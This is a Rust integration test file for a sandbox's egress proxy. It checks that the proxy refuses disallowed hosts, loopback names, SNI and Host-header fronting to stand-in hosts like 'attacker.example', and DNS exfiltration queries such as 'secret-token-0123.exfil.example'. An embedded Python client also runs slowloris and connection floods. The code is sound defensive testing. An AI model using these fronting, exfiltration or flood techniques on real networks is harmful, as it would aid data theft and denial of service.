//! The network layer for real (T2/T3): `network.mode = "proxy"` sandboxes whose only way out is
//! corral's proxy in the supervisor. Clients inside are curl and Python; the "remote hosts" are
//! servers this test process runs on the host's loopback (the proxy may dial loopback only where
//! a test allows `127.0.0.1/32` in `network.allow_cidrs`). No traffic goes anywhere else: names
//! that do not resolve to loopback are refused before any dial, and the sandbox has no route.
//!
//! Each refusal is checked twice: the client sees it (status, `X-Corral-Reason`, SOCKS reply,
//! closed tunnel) and the upstream server saw nothing; each allowed case shows the bytes arrived.

// Helpers outside #[test] functions panic on a failed set-up, like the tests themselves.
#![allow(clippy::unwrap_used)]

mod common;
use common::*;

use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

fn ready() -> bool {
    static READY: OnceLock<bool> = OnceLock::new();
    *READY.get_or_init(userns_available)
}

const NO_SANDBOX: &str = "cannot start a sandbox here (user namespaces unavailable?)";

/// What a test upstream does with a connection.
#[derive(Clone, Copy)]
enum Serve {
    /// Reads one request head, answers `200` with body `hello from upstream`.
    Http,
    /// Reads until EOF (or 5 s of silence), answers nothing.
    Sink,
    /// Reads until EOF, then answers `got N bytes` and closes (a half-closed tunnel).
    CountAfterEof,
}

/// A server on the host's 127.0.0.1 that records every connection's bytes.
struct Upstream {
    port: u16,
    got: Arc<Mutex<Vec<Vec<u8>>>>,
}

impl Upstream {
    fn start(mode: Serve) -> Upstream {
        Upstream::serve(TcpListener::bind("127.0.0.1:0").unwrap(), mode)
    }

    /// On a fixed port (a web port needs root); None when it cannot be bound.
    fn start_on(port: u16, mode: Serve) -> Option<Upstream> {
        TcpListener::bind(("127.0.0.1", port))
            .ok()
            .map(|l| Upstream::serve(l, mode))
    }

    fn serve(l: TcpListener, mode: Serve) -> Upstream {
        let port = l.local_addr().unwrap().port();
        let got: Arc<Mutex<Vec<Vec<u8>>>> = Arc::default();
        let g = got.clone();
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(mut s) = s else { continue };
                let g = g.clone();
                std::thread::spawn(move || {
                    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
                    let mut buf = Vec::new();
                    let mut chunk = [0u8; 65536];
                    loop {
                        match s.read(&mut chunk) {
                            Ok(0) | Err(_) => break,
                            Ok(n) => buf.extend_from_slice(&chunk[..n]),
                        }
                        if matches!(mode, Serve::Http) && buf.windows(4).any(|w| w == b"\r\n\r\n") {
                            break;
                        }
                    }
                    let reply = match mode {
                        Serve::Http => {
                            let body = "hello from upstream";
                            format!(
                                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                                body.len()
                            )
                        }
                        Serve::Sink => String::new(),
                        Serve::CountAfterEof => format!("got {} bytes", buf.len()),
                    };
                    let _ = s.write_all(reply.as_bytes());
                    g.lock().unwrap().push(buf);
                });
            }
        });
        Upstream { port, got }
    }

    /// Every connection's bytes so far (connections still open are not listed yet).
    fn received(&self) -> Vec<Vec<u8>> {
        self.got.lock().unwrap().clone()
    }

    /// Waits (up to 10 s) until `n` connections have ended, and returns them.
    fn wait_for(&self, n: usize) -> Vec<Vec<u8>> {
        wait_until(Duration::from_secs(10), || self.received().len() >= n);
        self.received()
    }
}

/// A fixture whose user config puts the sandbox in proxy mode with `network` (TOML lines).
fn proxy_fixture(network: &str) -> Fixture {
    let fx = Fixture::new();
    fx.home_file(
        ".config/corral/config.toml",
        &format!("[network]\nmode = \"proxy\"\n{network}\n"),
    );
    fx.ws_file("client.py", CLIENT_PY);
    fx
}

/// A proxy-mode fixture allowed to reach `up` (by the name `localhost`, its loopback range allowed),
/// plus `extra` TOML lines in `[network]`.
fn reaching(up: &Upstream, extra: &str) -> Fixture {
    proxy_fixture(&format!(
        "allow = [\"localhost:{}\"]\nallow_cidrs = [\"127.0.0.1/32\"]\n{extra}",
        up.port
    ))
}

/// Runs `script` in the sandbox with the proxy variables as corral sets them, except that
/// `NO_PROXY` is emptied: the test servers live on loopback names, which `NO_PROXY` would send
/// direct (and so nowhere: the sandbox's loopback is its own).
fn run(fx: &Fixture, script: &str) -> std::process::Output {
    fx.sh(&format!("export NO_PROXY= no_proxy=; {script}"))
}

/// The session's records of the given kinds (`net`, `dns`), as JSON.
fn records(fx: &Fixture, kinds: &str) -> Vec<Value> {
    let o = fx
        .corral()
        .args(["logs", "--json", "--kind", kinds])
        .output()
        .unwrap();
    assert_code(&o, 0);
    stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn decisions(fx: &Fixture) -> Vec<Value> {
    records(fx, "net")
        .into_iter()
        .filter(|r| r["event"] == "net.decision")
        .collect()
}

/// A Python client for what curl cannot do precisely (raw CONNECT, TLS with a chosen SNI,
/// half-close, SOCKS5 by hand, floods). Prints one result line per action.
const CLIENT_PY: &str = r#"
import socket, ssl, sys, time
PROXY = ("127.0.0.1", 3128)

def connect(target):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    resp = b""
    while b"\r\n\r\n" not in resp:
        d = s.recv(4096)
        if not d:
            break
        resp += d
    return s, resp.split(b"\r\n")[0].decode(errors="replace")

cmd = sys.argv[1]
if cmd == "tls":
    # CONNECT to argv[2], then a TLS handshake naming argv[3]
    s, status = connect(sys.argv[2])
    print(status)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    s.settimeout(3)
    try:
        ctx.wrap_socket(s, server_hostname=sys.argv[3])
        print("handshake: done")
    except (ssl.SSLEOFError, ssl.SSLZeroReturnError, ConnectionResetError):
        print("handshake: closed by the proxy")
    except TimeoutError:
        print("handshake: no answer")
elif cmd == "halfclose":
    s, status = connect(sys.argv[2])
    print(status)
    s.sendall(b"x" * int(sys.argv[3]))
    s.shutdown(socket.SHUT_WR)
    data = b""
    while True:
        d = s.recv(65536)
        if not d:
            break
        data += d
    print(data.decode())
elif cmd == "front":
    # CONNECT to argv[2], then a plain HTTP request naming argv[3] in its Host header
    s, status = connect(sys.argv[2])
    print(status)
    s.sendall(("GET /?d=SECRET HTTP/1.1\r\nHost: %s\r\n\r\n" % sys.argv[3]).encode())
    try:
        print("answer:", s.recv(4096) or b"closed")
    except ConnectionResetError:
        print("answer:", b"closed")
elif cmd == "upload":
    s, status = connect(sys.argv[2])
    print(status)
    sent = 0
    try:
        chunk = b"u" * 65536
        for _ in range(int(sys.argv[3]) // 65536):
            s.sendall(chunk)
            sent += len(chunk)
        s.shutdown(socket.SHUT_WR)
        s.settimeout(10)
        while s.recv(65536):
            pass
        print("upload: finished")
    except OSError as e:
        print("upload: cut (%s)" % type(e).__name__)
elif cmd == "socks":
    # SOCKS5 by hand: argv[2] host, argv[3] port; prints the reply code
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(b"\x05\x01\x00")
    assert s.recv(2) == b"\x05\x00"
    host = sys.argv[2].encode()
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + int(sys.argv[3]).to_bytes(2, "big"))
    rep = s.recv(10)
    print("socks reply %d" % rep[1])
elif cmd == "direct":
    try:
        socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=3).sendall(b"direct\n")
        print("direct: connected")
    except OSError as e:
        print("direct: " + type(e).__name__)
elif cmd == "bind":
    s = socket.socket()
    try:
        s.bind(("127.0.0.1", int(sys.argv[2])))
        s.listen()
        print("bind %s: ok" % sys.argv[2])
    except OSError as e:
        print("bind %s: errno %d" % (sys.argv[2], e.errno))
elif cmd == "dns":
    # a raw UDP query for argv[2] to the resolver; prints the answer's RCODE
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in sys.argv[2].split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00\x00\x10\x00\x01"
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(3)
    u.sendto(q, ("127.0.0.1", 53))
    r = u.recv(512)
    print("rcode %d id %s" % (r[3] & 0xF, r[:2].hex()))
elif cmd == "flood":
    # one oversized head; then argv[2] idle connections and argv[3] slowloris heads; then one
    # request to argv[4] (host:port) while they are all open; then the same with them closed
    big = socket.create_connection(PROXY, timeout=10)
    try:
        big.sendall(b"GET http://x/ HTTP/1.1\r\n" + b"X-Pad: " + b"a" * 40000 + b"\r\n\r\n")
    except OSError:
        pass
    print("big: " + big.recv(4096).split(b"\r\n")[0].decode(errors="replace"))
    idle = [socket.create_connection(PROXY, timeout=10) for _ in range(int(sys.argv[2]))]
    slow = []
    for _ in range(int(sys.argv[3])):
        s = socket.create_connection(PROXY, timeout=10)
        s.sendall(b"CONNECT a")
        slow.append(s)
    def get(label):
        try:
            s = socket.create_connection(PROXY, timeout=10)
            s.sendall(("GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (sys.argv[4], sys.argv[4])).encode())
            print(label + ": " + (s.recv(4096).split(b"\r\n")[0].decode(errors="replace") or "refused"))
        except ConnectionResetError:
            print(label + ": refused")
    get("during")
    for s in idle + slow:
        s.close()
    time.sleep(0.5)
    get("after")
"#;

#[test]
fn an_allowed_host_is_reached_through_the_proxy_and_a_denied_one_is_refused() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let up = Upstream::start(Serve::Http);
    let p = up.port;
    let fx = reaching(&up, "");
    let o = run(
        &fx,
        &format!(
            "curl -sS http://localhost:{p}/allowed; echo; \
             curl -sS -D - -o /dev/null http://127.0.0.1:{p}/denied | tr -d '\\r' | grep -E '^(HTTP|X-Corral)'; \
             curl -sS -x socks5h://127.0.0.1:3128 http://localhost:{p}/socks; echo; \
             curl -sS -p http://localhost:{p}/tunnel; echo"
        ),
    );
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        "hello from upstream\nHTTP/1.1 403 Forbidden\nX-Corral-Reason: not_in_allowlist\nhello from upstream\nhello from upstream\n",
        "stderr: {}",
        stderr(&o)
    );
    // Exactly the three allowed requests arrived, in origin form with the proxy's headers gone.
    let got: Vec<String> = up
        .wait_for(3)
        .iter()
        .map(|b| {
            String::from_utf8_lossy(b)
                .lines()
                .next()
                .unwrap_or("")
                .to_string()
        })
        .collect();
    let mut got = got;
    got.sort();
    assert_eq!(
        got,
        [
            "GET /allowed HTTP/1.1",
            "GET /socks HTTP/1.1",
            "GET /tunnel HTTP/1.1"
        ]
    );
    // Every decision is in the log, with its reason, rule, address and bytes.
    let d = decisions(&fx);
    let brief: Vec<(String, String, String)> = d
        .iter()
        .map(|r| {
            (
                r["proto"].as_str().unwrap().to_string(),
                r["host"].as_str().unwrap().to_string(),
                r["reason"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        brief,
        [
            ("http".to_string(), "localhost".to_string(), "allowed".to_string()),
            (
                "http".to_string(),
                "127.0.0.1".to_string(),
                "not_in_allowlist".to_string()
            ),
            (
                "socks5".to_string(),
                "localhost".to_string(),
                "allowed".to_string()
            ),
            (
                "connect".to_string(),
                "localhost".to_string(),
                "allowed".to_string()
            ),
        ]
    );
    let first = &d[0];
    assert_eq!(first["addr"], format!("127.0.0.1:{p}"));
    assert_eq!(first["rule"], format!("localhost:{p}"));
    assert_eq!(first["decision"], "allowed");
    assert!(first["bytes_up"].as_u64().unwrap() > 0 && first["bytes_down"].as_u64().unwrap() > 0);
    // The one-line summary, on stderr and in the log.
    assert!(
        stderr(&o).contains(&format!(
            "corral: network: 3 allowed to 1 host, 1 denied: 127.0.0.1:{p} (not_in_allowlist)"
        )),
        "{}",
        stderr(&o)
    );
    let summary = records(&fx, "net")
        .into_iter()
        .find(|r| r["event"] == "net.summary")
        .unwrap();
    assert_eq!(summary["allowed"], 3);
    assert_eq!(summary["denied"], 1);
}

#[test]
fn direct_connections_do_not_leave_the_sandbox() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let up = Upstream::start(Serve::Sink);
    let fx = proxy_fixture("allow = []\n");
    // Control: outside, the same user reaches it.
    let outside = fx.sh_outside(&format!(
        "python3 {}/client.py direct {}",
        fx.ws.display(),
        up.port
    ));
    assert_eq!(stdout(&outside), "direct: connected\n");
    up.wait_for(1);
    let o = run(&fx, &format!("python3 client.py direct {}", up.port));
    assert_code(&o, 0);
    // The sandbox's own loopback has nothing on that port: its network namespace is not the
    // host's.
    assert_eq!(stdout(&o), "direct: ConnectionRefusedError\n", "{}", stderr(&o));
    // With network.loopback = "ports", Landlock refuses the connect before it is tried (only the
    // proxy and DNS ports, and network.local_ports, are allowed).
    let strict = fx.home.join("strict.toml");
    std::fs::write(
        &strict,
        "extends = \"default\"\n[network]\nmode = \"proxy\"\nloopback = \"ports\"\n",
    )
    .unwrap();
    fx.chown();
    let o = fx
        .corral()
        .args(["run", "--yes", "--profile", strict.to_str().unwrap()])
        .args(["--", "python3", "client.py", "direct", &up.port.to_string()])
        .output()
        .unwrap();
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "direct: PermissionError\n", "{}", stderr(&o));
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(up.received().len(), 1, "only the control arrived");
}

#[test]
fn a_name_resolving_to_loopback_is_refused_unless_its_cidr_is_allowed() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let up = Upstream::start(Serve::Http);
    let p = up.port;
    let fx = proxy_fixture(&format!("allow = [\"localhost:{p}\", \"127.0.0.1:{p}\"]\n"));
    let o = run(
        &fx,
        &format!(
            "curl -sS -D - -o /dev/null http://localhost:{p}/ | tr -d '\\r' | grep -E '^(HTTP|X-Corral)'; \
             curl -sS -D - -o /dev/null http://127.0.0.1:{p}/ | tr -d '\\r' | grep -E '^(HTTP|X-Corral)'; \
             curl -sS -D - -o /dev/null http://2130706433:{p}/ | tr -d '\\r' | grep -E '^(HTTP|X-Corral)'"
        ),
    );
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        "HTTP/1.1 403 Forbidden\nX-Corral-Reason: forbidden_address\n".repeat(3),
        "{}",
        stderr(&o)
    );
    std::thread::sleep(Duration::from_millis(300));
    assert!(up.received().is_empty(), "nothing was dialled");
    let d = decisions(&fx);
    assert_eq!(d.len(), 3);
    for r in &d {
        assert_eq!(r["reason"], "forbidden_address");
        assert_eq!(r["detail"], "127.0.0.1 is loopback");
        assert_eq!(r["addr"], Value::Null);
    }
    // The integer spelling is the same address, canonicalised.
    assert_eq!(d[2]["host"], "127.0.0.1");
}

#[test]
fn a_tls_client_hello_naming_another_server_is_refused() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let up = Upstream::start(Serve::Sink);
    let p = up.port;
    let fx = reaching(&up, "");
    let o = run(
        &fx,
        &format!(
            "python3 client.py tls localhost:{p} evil.example; python3 client.py tls localhost:{p} localhost"
        ),
    );
    assert_code(&o, 0);
    let out = stdout(&o);
    let lines: Vec<&str> = out.lines().collect();
    // Both tunnels open; the fronted one is closed before its ClientHello goes anywhere, the
    // honest one's ClientHello reaches the server (which never answers: the handshake times out).
    assert_eq!(
        lines,
        [
            "HTTP/1.1 200 Connection established",
            "handshake: closed by the proxy",
            "HTTP/1.1 200 Connection established",
            "handshake: no answer",
        ],
        "{}",
        stderr(&o)
    );
    let got = up.wait_for(2);
    let mut firsts: Vec<Option<u8>> = got.iter().map(|b| b.first().copied()).collect();
    firsts.sort();
    assert_eq!(
        firsts,
        [None, Some(0x16)],
        "the fronted hello never reached the server"
    );
    let d = decisions(&fx);
    assert_eq!(d[0]["reason"], "sni_mismatch");
    assert_eq!(d[0]["detail"], "ClientHello names \"evil.example\"");
    assert_eq!(d[0]["bytes_up"], 0);
    assert_eq!(d[1]["reason"], "allowed");
}

#[test]
fn a_plain_request_in_a_tunnel_to_port_80_cannot_front_another_host() {
    // A CDN routes by Host: a plain HTTP request inside a CONNECT tunnel to an allowed host's port
    // 80 could name a site that is not allowed. Tunnels to 80 (and 443) must carry TLS.
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let Some(up) = Upstream::start_on(80, Serve::Sink) else {
        return skip("cannot bind 127.0.0.1:80 for the test server (needs root, and a free port 80)");
    };
    let fx = reaching(&up, "");
    let o = run(&fx, "python3 client.py front localhost:80 attacker.example");
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        "HTTP/1.1 200 Connection established\nanswer: b'closed'\n",
        "{}",
        stderr(&o)
    );
    let got = up.wait_for(1);
    assert!(
        got.iter().all(|b| !String::from_utf8_lossy(b).contains("SECRET")),
        "the fronted request reached the server: {got:?}"
    );
    let d = decisions(&fx);
    assert_eq!(d[0]["reason"], "not_tls", "{d:?}");
}

#[test]
fn a_half_closed_tunnel_still_carries_the_answer() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let up = Upstream::start(Serve::CountAfterEof);
    let p = up.port;
    let fx = reaching(&up, "");
    let o = run(&fx, &format!("python3 client.py halfclose localhost:{p} 300000"));
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        "HTTP/1.1 200 Connection established\ngot 300000 bytes\n",
        "{}",
        stderr(&o)
    );
    let d = decisions(&fx);
    assert_eq!(d[0]["bytes_up"], 300000);
    assert_eq!(d[0]["bytes_down"], "got 300000 bytes".len());
}

#[test]
fn the_egress_cap_cuts_uploads_and_refuses_new_connections() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let up = Upstream::start(Serve::Sink);
    let p = up.port;
    let fx = reaching(&up, "max_egress_mb = 1\n");
    let o = run(
        &fx,
        &format!(
            "python3 client.py upload localhost:{p} 4194304; python3 client.py upload localhost:{p} 65536"
        ),
    );
    assert_code(&o, 0);
    let out = stdout(&o);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], "HTTP/1.1 200 Connection established", "{}", stderr(&o));
    assert!(lines[1].starts_with("upload: cut"), "{out}");
    assert_eq!(lines[2], "HTTP/1.1 403 Forbidden", "{out}");
    let got = up.wait_for(1);
    assert!(got[0].len() <= 1024 * 1024, "{} bytes went out", got[0].len());
    let d = decisions(&fx);
    assert_eq!(d[0]["reason"], "egress_limit");
    assert_eq!(d[1]["reason"], "egress_limit");
}

#[test]
fn dns_is_a_sink_that_records_and_answers_nothing() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let fx = proxy_fixture("allow = [\"example.com\"]\n");
    let o = run(
        &fx,
        "getent hosts secret-token-0123.exfil.example; echo getent=$?; python3 client.py dns aGVsbG8.tunnel.example",
    );
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "getent=2\nrcode 5 id 1234\n", "{}", stderr(&o));
    let names: Vec<String> = records(&fx, "dns")
        .iter()
        .map(|r| format!("{} {}", r["qtype"].as_str().unwrap(), r["name"].as_str().unwrap()))
        .collect();
    assert!(
        names.contains(&"A secret-token-0123.exfil.example".to_string()),
        "{names:?}"
    );
    assert!(
        names.contains(&"TXT aGVsbG8.tunnel.example".to_string()),
        "{names:?}"
    );
}

#[test]
fn the_sandbox_is_pointed_at_the_proxy_and_the_proxy_port_cannot_be_taken() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let fx = proxy_fixture("allow = []\n");
    let o = fx.sh(
        "echo $HTTPS_PROXY $ALL_PROXY $NO_PROXY $NODE_USE_ENV_PROXY; grep nameserver /etc/resolv.conf; \
         python3 client.py bind 3128; python3 client.py bind 8080",
    );
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        format!(
            "http://127.0.0.1:3128 socks5h://127.0.0.1:3128 localhost,127.0.0.1,::1 1\nnameserver 127.0.0.1\nbind 3128: errno {}\nbind 8080: ok\n",
            libc_eaddrinuse()
        ),
        "{}",
        stderr(&o)
    );
}

fn libc_eaddrinuse() -> i32 {
    98
}

#[test]
fn floods_slowloris_and_huge_heads_leave_the_proxy_serving() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let up = Upstream::start(Serve::Http);
    let p = up.port;
    let fx = reaching(&up, "");
    // 1500 idle + 50 slowloris connections pass the cap of 512: the request made while they are
    // open is turned away; once they close, the next one is served.
    let o = run(
        &fx,
        &format!("ulimit -n 4096; python3 client.py flood 1500 50 localhost:{p}"),
    );
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        "big: HTTP/1.1 400 Bad Request\nduring: refused\nafter: HTTP/1.1 200 OK\n",
        "{}",
        stderr(&o)
    );
    let d = decisions(&fx);
    let count = |reason: &str| d.iter().filter(|r| r["reason"] == reason).count();
    assert!(count("too_many_connections") >= 1, "{d:?}");
    // 1552 refusals in a few seconds pass the log's rate cap: the rest are counted, not lost,
    // and the allowed connection is written whatever the rate.
    assert_eq!(count("allowed"), 1);
    let summary = records(&fx, "net")
        .into_iter()
        .find(|r| r["event"] == "net.summary")
        .unwrap();
    assert_eq!(summary["allowed"], 1);
    assert_eq!(
        summary["denied"].as_u64().unwrap(),
        1552,
        "the big head, 1550 idle or slow, one turned away"
    );
    assert_eq!(
        summary["unrecorded"].as_u64().unwrap() + d.len() as u64,
        1553,
        "every connection is either recorded or counted"
    );
}

#[test]
fn host_mode_shares_the_network_and_says_so() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let up = Upstream::start(Serve::Sink);
    let fx = Fixture::new();
    fx.ws_file("client.py", CLIENT_PY);
    fx.chown();
    let o = fx
        .corral()
        .args([
            "run",
            "--yes",
            "--network",
            "host",
            "--",
            "python3",
            "client.py",
            "direct",
        ])
        .arg(up.port.to_string())
        .output()
        .unwrap();
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "direct: connected\n");
    let err = stderr(&o);
    assert!(
        err.contains(
            "corral: warning: layer netns is none (best effort): not created: network.mode = \"host\""
        ),
        "{err}"
    );
    assert!(err.contains("shares this machine's network"), "{err}");
    assert_eq!(up.wait_for(1)[0], b"direct\n");
}

#[test]
fn a_bad_network_rule_is_refused_before_anything_runs() {
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let fx = proxy_fixture("allow = [\"exa mple.com\"]\n");
    let o = fx.sh("touch ran");
    assert_code(&o, 125);
    assert!(
        stderr(&o).contains("network.allow entry \"exa mple.com\""),
        "{}",
        stderr(&o)
    );
    assert!(!fx.ws.join("ran").exists());
}

#[test]
fn protections_are_reapplied_while_the_proxy_runs() {
    // The proxy's threads run in the supervisor; the re-protection after a host-side rename must
    // still work (its helpers are forked by a server forked before any thread started).
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let fx = proxy_fixture("allow = []\n");
    fx.ws_file(".env", "DB_PASSWORD=old\n");
    fx.chown();
    let script = "touch ready; i=0; while [ ! -e go ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; \
                  curl -s -o /dev/null -w '%{http_code}\\n' http://example.com/; cat .env; echo rc=$?";
    let child = fx
        .corral()
        .args(["run", "--yes", "--", "sh", "-c", script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    assert!(wait_until(Duration::from_secs(20), || fx
        .ws
        .join("ready")
        .exists()));
    // An editor's save: write beside, rename over (this detaches the mask in other namespaces).
    let o = fx.sh_outside("echo DB_PASSWORD=new > .env.tmp && mv .env.tmp .env");
    assert_code(&o, 0);
    std::thread::sleep(Duration::from_millis(300));
    std::fs::write(fx.ws.join("go"), "").unwrap();
    let o = child.wait_with_output().unwrap();
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "403\nrc=0\n", "{}", stderr(&o));
    assert!(
        stderr(&o).contains("masked (it appeared or was replaced on the host)"),
        "{}",
        stderr(&o)
    );
}
